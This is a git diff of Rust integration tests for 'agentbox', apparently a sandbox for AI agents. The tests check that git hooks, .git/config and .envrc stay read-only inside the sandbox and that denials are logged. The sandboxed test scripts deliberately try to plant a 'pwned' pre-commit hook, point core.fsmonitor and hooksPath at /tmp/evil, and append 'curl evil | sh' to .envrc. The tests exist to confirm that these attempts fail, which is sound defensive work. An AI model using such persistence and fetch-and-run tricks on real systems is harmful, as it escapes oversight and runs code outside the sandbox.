@@ -1,12 +1,15 @@
 //! `[filesystem] protect` through `agentbox run`: git keeps working under the default profile,
 //! and protected files that would run code outside the sandbox later (git hooks, git config,
-//! `.envrc`) stay readable but cannot be planted or changed, with the Landlock denial in the
-//! audit log (as root, where the eBPF observer reports Landlock denials with their path).
+//! `.envrc`) stay readable but cannot be planted or changed. Where init gets a mount namespace
+//! (root, or any user allowed a user namespace: both users here), protect matches are read-only
+//! bind mounts: writes fail with EROFS and renames with EBUSY. As root the eBPF observer turns
+//! those failures into `mounts` denials in the audit log; the Launch record names the mounts.
 
+use std::os::unix::process::CommandExt;
 use std::path::Path;
 use std::process::Command;
 
-use agentbox_tests::{ebpf_tier, RunAs, RunResult, Scenario};
+use agentbox_tests::{is_root, RunAs, RunResult, Scenario, NOBODY};
 
 const GIT_IDENTITY: [(&str, &str); 4] = [
     ("GIT_AUTHOR_NAME", "agent"),
@@ -15,25 +18,28 @@ const GIT_IDENTITY: [(&str, &str); 4] = [
     ("GIT_COMMITTER_EMAIL", "agent@example.invalid"),
 ];
 
-/// Runs git in `dir` outside the sandbox, with the scenario's HOME and no user config.
+/// Runs git in `dir` outside the sandbox, as the scenario's user (git refuses a repository
+/// owned by someone else), with the scenario's HOME and no user config.
 fn git(s: &Scenario, dir: &Path, args: &[&str]) -> String {
-    let out = Command::new("git")
-        .args(args)
+    let mut cmd = Command::new("git");
+    cmd.args(args)
         .current_dir(dir)
         .env_clear()
         .env("PATH", "/usr/bin:/bin")
         .env("HOME", &s.home)
         .env("GIT_CONFIG_NOSYSTEM", "1")
-        .envs(GIT_IDENTITY)
-        .output()
-        .expect("run git");
+        .envs(GIT_IDENTITY);
+    if s.run_as == RunAs::Nobody {
+        cmd.uid(NOBODY).gid(NOBODY);
+    }
+    let out = cmd.output().expect("run git");
     assert!(out.status.success(), "git {args:?}: {out:?}");
     String::from_utf8_lossy(&out.stdout).into_owned()
 }
 
 /// A workspace that is a git repository with one commit.
-fn repository() -> Scenario {
-    let mut s = Scenario::new(RunAs::Current);
+fn repository(run_as: RunAs) -> Scenario {
+    let mut s = Scenario::new(run_as);
     s.env.extend(
         GIT_IDENTITY
             .iter()
@@ -48,118 +54,159 @@ fn repository() -> Scenario {
     s
 }
 
-/// The Landlock denials whose path ends with `suffix`.
-fn landlock_denials_of<'a>(r: &'a RunResult, suffix: &str) -> Vec<&'a serde_json::Value> {
-    r.denials_of("landlock")
-        .into_iter()
-        .filter(|d| {
-            d["object"]["path"]
-                .as_str()
-                .is_some_and(|p| p.ends_with(suffix))
-        })
-        .collect()
+/// The Launch event's state of the deny/protect guarantee, as JSON text.
+fn protect_guarantee(r: &RunResult) -> String {
+    let launch = r.record("launch").expect("launch record");
+    launch["guarantees"]
+        .as_array()
+        .expect("guarantees")
+        .iter()
+        .find(|g| g.to_string().contains("mounts"))
+        .map(|g| g.to_string())
+        .unwrap_or_default()
 }
 
 #[test]
 fn protect_git_status_add_commit_work_under_the_default_profile() {
-    let s = repository();
-    s.plant_in_workspace("src/lib.py", "x = 2\n");
-    let r = s.run(
-        &["-q"],
-        &[
-            "sh",
-            "-c",
-            "set -e; git status --short; echo y = 1 > src/new.py; git add -A; \
-             git commit -q -m 'from the sandbox'; git log --oneline | wc -l",
-        ],
-    );
-    assert_eq!(r.code(), Some(0), "{}", r.dump());
-    assert!(r.stdout.contains(" M src/lib.py"), "{}", r.dump());
-    assert_eq!(r.stdout.lines().last(), Some("2"), "{}", r.dump());
-    // The commit is real: objects, index and refs were written.
-    let log = git(&s, &s.workspace, &["log", "--format=%s"]);
-    assert_eq!(log.lines().next(), Some("from the sandbox"));
-    let status = git(&s, &s.workspace, &["status", "--porcelain"]);
-    assert_eq!(status, "", "everything committed");
+    for run_as in RunAs::all() {
+        let s = repository(run_as);
+        s.plant_in_workspace("src/lib.py", "x = 2\n");
+        let r = s.run(
+            &["-q"],
+            &[
+                "sh",
+                "-c",
+                "set -e; git status --short; echo y = 1 > src/new.py; git add -A; \
+                 git commit -q -m 'from the sandbox'; git log --oneline | wc -l",
+            ],
+        );
+        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
+        assert!(r.stdout.contains(" M src/lib.py"), "{}", r.dump());
+        assert_eq!(r.stdout.lines().last(), Some("2"), "{}", r.dump());
+        // The commit is real: objects, index and refs were written.
+        let log = git(&s, &s.workspace, &["log", "--format=%s"]);
+        assert_eq!(log.lines().next(), Some("from the sandbox"), "{run_as:?}");
+        let status = git(&s, &s.workspace, &["status", "--porcelain"]);
+        assert_eq!(status, "", "{run_as:?}: everything committed");
+    }
 }
 
 #[test]
-fn protect_planting_a_git_hook_or_changing_git_config_is_denied_and_logged() {
-    let s = repository();
-    let config_before = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
-    // Under a profile that protects git's own files (which costs the agent `git commit`: the
-    // default profile leaves them out, see profiles/default.toml).
-    let profile = s.profile(
-        "no-git-writes",
-        "extends = \"default\"\n[filesystem]\nprotect = [\"**/.git/hooks\", \"**/.git/config\"]\n",
-    );
-    let profile = profile.to_str().unwrap();
-    let r = s.run(
-        &["-q", "--profile", profile],
-        &[
-            "sh",
-            "-c",
-            "cat .git/config >/dev/null && echo config-readable; \
-             ls .git/hooks >/dev/null && echo hooks-listable; \
-             printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo hook-planted; \
-             echo '[core] fsmonitor = /tmp/evil' >> .git/config && echo config-appended; \
-             git config core.hooksPath /tmp/evil && echo config-set; \
-             true",
-        ],
-    );
-    assert_eq!(r.code(), Some(0), "{}", r.dump());
-    assert!(r.stdout.contains("config-readable"), "{}", r.dump());
-    assert!(r.stdout.contains("hooks-listable"), "{}", r.dump());
-    for planted in ["hook-planted", "config-appended", "config-set"] {
-        assert!(!r.stdout.contains(planted), "{planted}: {}", r.dump());
+fn protect_planting_a_git_hook_or_changing_git_config_is_denied_under_the_default_profile() {
+    for run_as in RunAs::all() {
+        let s = repository(run_as);
+        let config_before = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
+        let r = s.run(
+            &["-q"],
+            &[
+                "sh",
+                "-c",
+                "cat .git/config >/dev/null && echo config-readable; \
+                 ls .git/hooks >/dev/null && echo hooks-listable; \
+                 printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo hook-planted; \
+                 echo '[core] fsmonitor = /tmp/evil' >> .git/config && echo config-appended; \
+                 git config core.fsmonitor /tmp/evil && echo config-set; \
+                 mv .git/hooks .git/h2 && echo hooks-moved; \
+                 mv .git/config .git/c2 && echo config-moved; \
+                 rm -f .git/config && echo config-removed; \
+                 echo x > .git/scratch && rm .git/scratch && echo git-dir-writable; \
+                 true",
+            ],
+        );
+        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
+        for expected in ["config-readable", "hooks-listable", "git-dir-writable"] {
+            assert!(
+                r.stdout.contains(expected),
+                "{run_as:?} {expected}: {}",
+                r.dump()
+            );
+        }
+        for planted in [
+            "hook-planted",
+            "config-appended",
+            "config-set",
+            "hooks-moved",
+            "config-moved",
+            "config-removed",
+        ] {
+            assert!(
+                !r.stdout.contains(planted),
+                "{run_as:?} {planted}: {}",
+                r.dump()
+            );
+        }
+        // The kernel's answers: read-only mounts, busy mount points.
+        assert!(
+            r.stderr.contains("Read-only file system"),
+            "{run_as:?}: {}",
+            r.dump()
+        );
+        assert!(
+            r.stderr.contains("Device or resource busy"),
+            "{run_as:?}: {}",
+            r.dump()
+        );
+        // Outside the sandbox afterwards: no hook, the config unchanged, nothing mounted here.
+        assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
+        assert!(s.workspace.join(".git/hooks").is_dir());
+        let config_after = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
+        assert_eq!(config_after, config_before, "{run_as:?}");
+        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+        assert!(
+            !mountinfo.contains(s.workspace.to_str().unwrap()),
+            "a sandbox mount leaked to the host: {mountinfo}"
+        );
+        // As root the observer logs the refusals, each with its path.
+        if is_root() && matches!(run_as, RunAs::Current) {
+            let mounts = r.denials_of("mounts");
+            let paths: Vec<&str> = mounts
+                .iter()
+                .filter_map(|d| d["object"]["path"].as_str())
+                .collect();
+            assert!(
+                paths.iter().any(|p| p.ends_with(".git/hooks/pre-commit")),
+                "{run_as:?}: no mounts denial for the hook: {}",
+                r.dump()
+            );
+            assert!(
+                paths.iter().any(|p| p.ends_with(".git/config")),
+                "{run_as:?}: no mounts denial for .git/config: {}",
+                r.dump()
+            );
+            assert!(mounts
+                .iter()
+                .all(|d| d["rule"] == "filesystem.protect: read-only bind mount"));
+        }
+        // The audit log says how protect globs were enforced.
+        let state = protect_guarantee(&r);
+        assert!(
+            state.contains("read-only bind mounts"),
+            "{run_as:?}: launch guarantees: {}",
+            r.dump()
+        );
     }
-    assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
-    let config_after = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
-    assert_eq!(config_after, config_before);
-
-    if !ebpf_tier("protect_planting_a_git_hook_is_logged") {
-        return;
-    }
-    let hook = landlock_denials_of(&r, ".git/hooks/pre-commit");
-    assert!(!hook.is_empty(), "no denial for the hook: {}", r.dump());
-    assert_eq!(hook[0]["object"]["access"], "open", "{}", r.dump());
-    assert!(
-        !landlock_denials_of(&r, ".git/config").is_empty(),
-        "no denial for the config append: {}",
-        r.dump()
-    );
-    // `git config` writes config.lock and renames it over config.
-    assert!(
-        !landlock_denials_of(&r, ".git/config.lock").is_empty(),
-        "no denial for git config's lock file: {}",
-        r.dump()
-    );
 }
 
 #[test]
 fn protect_existing_envrc_is_read_only_under_the_default_profile() {
-    let s = Scenario::new(RunAs::Current);
-    let envrc = s.plant_in_workspace("proj/.envrc", "export A=1\n");
-    let r = s.run(
-        &["-q"],
-        &[
-            "sh",
-            "-c",
-            "cat proj/.envrc; echo 'curl evil | sh' >> proj/.envrc && echo appended; \
-             rm -f proj/.envrc && echo removed; true",
-        ],
-    );
-    assert_eq!(r.code(), Some(0), "{}", r.dump());
-    assert!(r.stdout.contains("export A=1"), "{}", r.dump());
-    assert!(!r.stdout.contains("appended"), "{}", r.dump());
-    assert!(!r.stdout.contains("removed"), "{}", r.dump());
-    assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
-    if !ebpf_tier("protect_existing_envrc_is_logged") {
-        return;
+    for run_as in RunAs::all() {
+        let s = Scenario::new(run_as);
+        let envrc = s.plant_in_workspace("proj/.envrc", "export A=1\n");
+        let r = s.run(
+            &["-q"],
+            &[
+                "sh",
+                "-c",
+                "cat proj/.envrc; echo 'curl evil | sh' >> proj/.envrc && echo appended; \
+                 rm -f proj/.envrc && echo removed; touch proj/new && echo dir-writable; true",
+            ],
+        );
+        assert_eq!(r.code(), Some(0), "{run_as:?}: {}", r.dump());
+        assert!(r.stdout.contains("export A=1"), "{}", r.dump());
+        assert!(!r.stdout.contains("appended"), "{}", r.dump());
+        assert!(!r.stdout.contains("removed"), "{}", r.dump());
+        // The directory holding a protected file keeps its create rights.
+        assert!(r.stdout.contains("dir-writable"), "{}", r.dump());
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
     }
-    assert!(
-        !landlock_denials_of(&r, "proj/.envrc").is_empty(),
-        "no denial for .envrc: {}",
-        r.dump()
-    );
 }
